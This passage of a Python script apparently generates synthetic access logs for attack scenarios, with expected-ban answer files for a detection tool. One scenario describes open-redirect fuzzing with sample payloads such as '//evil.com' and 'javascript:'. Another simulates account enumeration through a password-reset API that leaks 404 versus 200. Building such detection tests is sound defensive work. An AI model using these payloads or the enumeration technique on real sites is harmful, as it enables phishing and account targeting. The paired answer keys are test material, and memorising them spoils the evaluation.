    return L, "Open-redirect fuzzing (OpenRedireX-style): ~430 GETs at ~6/s putting 20 redirect payloads (//evil.com, /%5Cevil.com, https://evil.com@host, javascript:, encoded) into 18 parameter names on 6 paths, mostly 200 (the app ignores unknown parameters); 15 users logging in with next=, 55 others", keep


@scen
def password_reset_enumeration():
    L = Log(T0, 215, "reset")
    s = app_site("app.example-fitness.com", ["/", "/login", "/forgot-password", "/classes", "/account", "/pricing"])
    dur = 1200
    background(L, s, dur)
    r = L.rnd
    keep = []
    for k in range(8):
        ip = L.ip()
        ua = r.choice(UAS)
        t = r.uniform(0, dur)
        page_view(L, s, t, ip, ua, "/forgot-password", s.url("/login"), set())
        L.add(t + 15, ip, "POST", "/api/v1/auth/password-reset", 200, 60, s.url("/forgot-password"), ua)
        if r.random() < 0.3:
            L.add(t + 60, ip, "POST", "/api/v1/auth/password-reset", 200, 60, s.url("/forgot-password"), ua)
    a = L.ip("88.214.26")
    keep.append((a, "account enumeration via password reset"))
    ua = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/129.0.0.0 Safari/537.36"
    t = 300
    for i in range(1400):
        # the API answers 404 {"error":"user_not_found"} or 200: the leak
        st = 404 if r.random() < 0.85 else 200
        L.add(t, a, "POST", "/api/v1/auth/password-reset", st, 60 if st == 200 else 38, s.url("/forgot-password"), ua)
        t += r.expovariate(3.0)
    return L, "Account enumeration through a password-reset API that answers 404 for unknown e-mails: 1,400 POSTs at ~3/s (15 % 200) with a browser UA and the form's Referer; 8 real users resetting (some twice); 55 others", keep


def main():
    only = sys.argv[1:]
    for f in SC:
        name = f.__name__.replace("_", "-")
        if only and name not in only:
            continue
        L, desc, keep = f()
        n = L.write(os.path.join(OUT, name + ".log"))
        seen, kk = set(), []
        for ip, c in keep:
            if ip not in seen:
                seen.add(ip)
                kk.append((ip, c))
        expect(os.path.join(OUT, name + ".expect.toml"), "fresh-s11 attack: " + desc, banned=kk, lines=n)
        print(name, n)


main()
